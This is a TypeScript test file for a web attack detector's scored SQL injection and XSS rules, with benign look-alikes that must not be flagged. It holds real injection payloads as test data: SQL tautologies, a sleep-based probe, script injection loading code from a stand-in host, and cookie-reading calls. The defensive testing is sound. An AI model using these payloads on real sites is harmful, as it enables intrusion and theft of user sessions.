/**
 * The learned sqli and xss scores (docs/detection.md, "Scores"): weak signals that no sure rule
 * fires on alone, combined. Each example that must hit is first shown to pass the sure rules
 * (isSqlInjection without a score, isXss), so it is the score that finds it; each look-alike that
 * must stay quiet goes through the whole detector. Requests: `q` a query value, `json` a JSON field.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { AttackDetector } from '../../../node/analysis/attacks';
import { hasEvidence, SignalScore } from '../../../node/analysis/attacks/detectors/scoring';
import { SCORE_MODELS } from '../../../node/analysis/attacks/detectors/score-weights';
import { isSqlInjection, LEARNED_SQLI, sqliSignals } from '../../../node/analysis/attacks/detectors/sqli';
import { isXss, xssSignals } from '../../../node/analysis/attacks/detectors/xss';
import type { AttackClass } from '../../../node/records/types';
import { at, RELAXED, tx, type Where } from './helpers';

const detector = new AttackDetector(RELAXED);
function classes(where: Where, v: string): AttackClass[] {
  return [...new Set(detector.detect(tx(at(where, v)))?.hits.map((h) => h.class) ?? [])];
}

/** SQL that only weak signals together show: a tautology after a closed context, functions by name, keyword runs. */
const SCORED_SQLI = [
  // Tautologies after a closed string and a list, after `;` (the forms without quotes or after a
  // parenthesis are sure rules now: sql-fragments.test.ts).
  "'admin', '1'='1'",
  "; or '1'='1'",
  // (`1172 AND ... substring(version(),1,1)="3"`, a nested call's result compared, was one: since
  // branch i18-sqlkinds a sure rule reads a string function over the database's identity; `@@version--`,
  // a system variable then a comment, was one: since branch i18-sqli8 a sure rule reads an operand cut by a comment.)
  // libinjection's fuzzed operator nests with a comment.
  " ( COS ( BINARY ( 'b')) )  --",
  " ( @a in ( BINARY COS ( 'b')) )  --",
  // Comparisons in every quoting after a comment.
  '1!=0-- "!="\'!=\'',
];

/** Script that only weak signals together show: API words used as code, CSS that loads, glued tags. */
const SCORED_XSS = [
  "with(document)getElementsByTagName('head')[0].appendChild(createElement('script')).src='//x.example'",
  // (`>"scriptdocument.cookie=true;/script` was one: since the operators round a sure rule reads
  // it, a script element whose brackets a filter removed.)
  '<div style="background:url(http://foo.example/f oo/;color:red/*/foo.jpg);">X</div>',
];

for (const v of SCORED_SQLI) {
  test(`sqli score: ${v} -> sqli (the sure rules alone say no)`, () => {
    assert.equal(isSqlInjection(v, LEARNED_SQLI), false, 'a sure rule finds it: not an example of the score');
    assert.ok(classes('q', v).includes('sqli'), `query: ${v}`);
    assert.ok(classes('json', v).includes('sqli'), `JSON: ${v}`);
  });
}

for (const v of SCORED_XSS) {
  test(`xss score: ${v} -> xss (the sure rules alone say no)`, () => {
    assert.equal(isXss(v), false, 'a sure rule finds it: not an example of the score');
    assert.ok(classes('q', v).includes('xss'), `query: ${v}`);
    assert.ok(classes('json', v).includes('xss'), `JSON: ${v}`);
  });
}

/** Look-alikes: SQL words and script words in text, Markdown, code snippets, query languages. */
const QUIET: Array<[AttackClass, string]> = [
  ['sqli', 'to on , like red . of & from sleep ('],
  ['sqli', "startswith(CompanyName, 'Alfr') or Country eq 'Germany'"],
  ['sqli', 'status = 1 and priority = 2'],
  ['sqli', "DRESS WITH HAT 18';"],
  ['xss', 'For information about terms used in this document see: [terminology](./docs/terminology.md)'],
  ['xss', '[![JavaScript Style Guide](https://img.example/badge.svg)](https://standardjs.example)'],
  [
    'xss',
    '[![](https://img.example/badge/approved.svg)](https://video.example/watch?v=1) [![run](https://x.example/badge)](https://x.example/run)',
  ],
  ['xss', "An implementation for JavaScript based on [Gary Court's implementation](https://github.example/x)"],
  ['xss', '## Notes\n\nsee [the docs](https://docs.example.com/a)\n\n```\n<div class="card">{{ title }}</div>\n```\n'],
  ['xss', '<img src="/images/cat.png" alt="cat"> onload time is 2s'],
  ['xss', 'alert level: high, please confirm your email'],
  ['xss', 'Prompts are JavaScript objects that define the questions and the [type of prompt](#-types).'],
];

for (const [cls, v] of QUIET) {
  test(`${cls} score stays quiet: ${JSON.stringify(v)}`, () => {
    assert.ok(!classes('q', v).includes(cls), `query: ${v}`);
    assert.ok(!classes('json', v).includes(cls), `JSON: ${v}`);
  });
}

test('a score never fires without an evidence signal, however high its weak signals weigh', () => {
  const score = new SignalScore({ bias: 10, threshold: 1, weights: { a: 5 } });
  assert.equal(score.fires(['a']), false);
  assert.equal(score.fires(['a', '!b']), true);
  assert.equal(hasEvidence(['a', 'b']), false);
});

test('the signals name what the readers see', () => {
  const sql = sqliSignals('1" where 7380=7380 or sleep(5)--');
  for (const s of ['!tautology', '!number-comparison', '!fn:SLEEP', 'trailing-comment']) assert.ok(sql.includes(s), s);
  const js = xssSignals("top['al'+'ert'](document.cookie)");
  for (const s of ['!bracket-call', '!word:document', '!word:cookie']) assert.ok(js.includes(s), s);
  // Words in text are not code: "this document" names no DOM object.
  assert.ok(xssSignals('see this document').includes('text:document'));
  const models = [new SignalScore(SCORE_MODELS.sqli), new SignalScore(SCORE_MODELS.xss)];
  for (const m of models) assert.ok(Number.isFinite(m.threshold) && m.threshold >= 1);
});
